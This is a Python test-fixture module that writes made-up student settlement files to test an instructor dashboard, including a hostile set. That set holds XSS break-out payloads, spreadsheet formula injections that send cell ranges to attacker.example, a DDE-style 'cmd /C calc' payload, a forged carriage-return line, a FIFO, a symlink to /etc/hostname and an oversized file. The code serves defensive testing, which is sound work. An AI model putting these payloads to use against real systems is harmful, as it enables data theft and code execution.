"""Made-up class folders, for trying the instructor's dashboard at scale and for testing it: good files,
files edited after export, files in the old format 1, broken files, and (on request) hostile ones whose
every free-text field holds markup and ``</script>`` break-outs, with the hostile folder's other tricks beside
them (`write_hostile_extras`: a formula in a name, a named pipe, a file name that is not UTF-8, a second brief
under one id, a link out of the folder, a file far over the size limit).

Nothing here is real student work; names are "Student 001" and so on.
"""

from __future__ import annotations

import json
import os
import random
from collections import Counter
from pathlib import Path

from . import submission
from ..model.settlement import Catalogue, Choice, Rating

# Each tries to run code if it ever reaches a page as markup: the tests look for `window.__pwned`.
HOSTILE_TEXTS = [
    "</script><script>window.__pwned = (window.__pwned || 0) + 1</script>",
    '<img src=x onerror="window.__pwned = (window.__pwned || 0) + 1">',
    '<svg onload="window.__pwned = (window.__pwned || 0) + 1"></svg>',
    "<!-- <script>window.__pwned = 1</script> -->",
    "]]></script><script>window.__pwned=1//",
    "<b>bold?</b> & \u2028 {{7*7}} ${1+1} javascript:window.__pwned=1",
]
BROKEN = {
    "truncated": lambda text: text[: len(text) // 3].encode("utf-8"),
    "not json": lambda text: b"Dear teacher, my settlement is attached.",
    "notebook": lambda text: json.dumps({"cells": [], "nbformat": 4, "metadata": {}}).encode("utf-8"),
    "not text": lambda text: b"\x89PNG\r\n\x1a\n\x00\x00\x00",
    "newer version": lambda text: json.dumps({**json.loads(text), "version": 99}).encode("utf-8"),
}


def _draft(catalogue: Catalogue, rng: random.Random, number: int, hostile: bool):
    def text(plain: str) -> str:
        return f"{plain} {rng.choice(HOSTILE_TEXTS)}" if hostile else plain

    start = rng.choice([None, *catalogue.startable_texts()["text_code"]])
    meta = {"student": text(f"Student {number:03d}"), "title": text(f"Settlement {number}")}
    draft = catalogue.draft_from_text(start, **meta) if start else catalogue.blank_draft(**meta)
    for issue_id in rng.sample(catalogue.issue_ids, k=rng.randint(3, len(catalogue.issue_ids))):
        options = sorted(o for o, i in catalogue.option_issue.items() if i == issue_id)
        if rng.random() < 0.1:
            draft.choices[issue_id] = Choice(custom_text=text("a custom option"), justification=text("because"))
        else:
            draft.choices[issue_id] = Choice(rng.choice(options), justification=text("the record says so"))
    if rng.random() < 0.3:
        draft.role = rng.choice(catalogue.parties)
        draft.table = text(f"Table {rng.randint(1, 8)}")
        for issue_id, choice in draft.choices.items():
            options = sorted(o for o, i in catalogue.option_issue.items() if i == issue_id)
            choice.acceptable = tuple(
                sorted(
                    set(rng.sample(options, k=min(2, len(options))))
                    | ({choice.option_id} if choice.option_id else set())
                )
            )
    for mechanism_id in rng.sample(catalogue.mechanism_ids, k=rng.randint(0, len(catalogue.mechanism_ids))):
        draft.ratings[mechanism_id] = Rating(rng.randint(0, 3), text("my reason"))
    for rule in catalogue.check_rules(draft)[0][:2]:
        draft.acknowledged[rule.rule_id] = text("I keep it")
    return draft


def write_sample_class(
    folder: Path | str, catalogue: Catalogue, size: int = 300, seed: int = 0, hostile: bool = False
) -> Counter:
    """Write `size` settlement files into `folder`; return how many of each kind were written.

    About 70% are good exports, 10% were edited after export, 10% are in format 1 and 10% are broken.
    """
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    rng = random.Random(seed)
    kinds = Counter()
    for number in range(1, size + 1):
        draft = _draft(catalogue, rng, number, hostile)
        text = submission.export_json(draft)
        roll = rng.random()
        path = folder / f"student-{number:03d}.json"
        if roll < 0.7:
            kind, content = "good", text.encode("utf-8")
        elif roll < 0.8:
            payload = json.loads(text)
            payload["title"] += " (typo fixed by hand)"
            kind, content = "edited", json.dumps(payload, indent=2).encode("utf-8")
        elif roll < 0.9:
            v1 = {
                "format": submission.FORMAT,
                "version": 1,
                "student": draft.student,
                "title": draft.title,
                "choices": {i: c.option_id or f"custom: {c.custom_text}" for i, c in draft.choices.items()},
                "justifications": {i: c.justification for i, c in draft.choices.items()},
            }
            kind, content = "format 1", json.dumps(v1).encode("utf-8")
        else:
            kind = rng.choice(sorted(BROKEN))
            content = BROKEN[kind](text)
            kind = f"broken: {kind}"
        path.write_bytes(content)
        kinds[kind] += 1
    return kinds


FORMULA = '=HYPERLINK("https://attacker.example/?"&A2:A99,"Open my settlement")'


def write_hostile_extras(folder: Path | str, catalogue: Catalogue) -> dict[str, str]:
    """Add to `folder` the files a hostile class folder also holds; return {what: the file's name as written}.

    - a file whose name, student id and title start a spreadsheet formula;
    - a role-play brief whose table name holds a carriage return, to rewrite the line that lists the tables;
    - a second role-play brief under that id (its marks must not be merged into the first's);
    - a file whose name is not UTF-8 (as a learning platform's zip unpacked elsewhere leaves it);
    - a named pipe (FIFO) named like a settlement file, which would hang a reader that opens it;
    - a link to a file outside the folder (/etc/hostname), and a file far over the size limit.
    """
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    written = {}
    formula = catalogue.draft_from_text("M2", student=FORMULA, title="@SUM(1+1)*cmd|' /C calc'!A0")
    forged = "0 party briefs and 0 mediator or chair file(s) at 0 table(s)"  # the dashboard's summary, forged
    formula.role, formula.table = catalogue.parties[0], f"Table 1\r{forged}"
    name = '=HYPERLINK("mailto:marks@attacker.example","Open").json' if os.name != "nt" else "=formula.json"
    (folder / name).write_text(submission.export_json(formula), encoding="utf-8")
    written["formula"] = name
    twin = catalogue.draft_from_text("IC", student=FORMULA, title="the same id again")
    twin.role, twin.table = catalogue.parties[1], "Table 1"
    (folder / "zz-same-id.json").write_text(submission.export_json(twin), encoding="utf-8")
    written["duplicate id"] = "zz-same-id.json"
    not_utf8 = os.fsdecode(b"r\xe9sum\xe9-\xff.json")
    (folder / not_utf8).write_text(
        submission.export_json(catalogue.draft_from_text("M2", student="Student with an odd file name")),
        encoding="utf-8",
    )
    written["not UTF-8"] = not_utf8
    if hasattr(os, "mkfifo"):
        os.mkfifo(folder / "fifo.json")
        written["fifo"] = "fifo.json"
    if hasattr(os, "symlink") and Path("/etc/hostname").exists():
        os.symlink("/etc/hostname", folder / "outside.json")
        written["link out"] = "outside.json"
    with open(folder / "huge.json", "wb") as big:  # sparse: 3 GB on paper, nothing on disk
        big.truncate(3_000_000_000)
    written["huge"] = "huge.json"
    return written
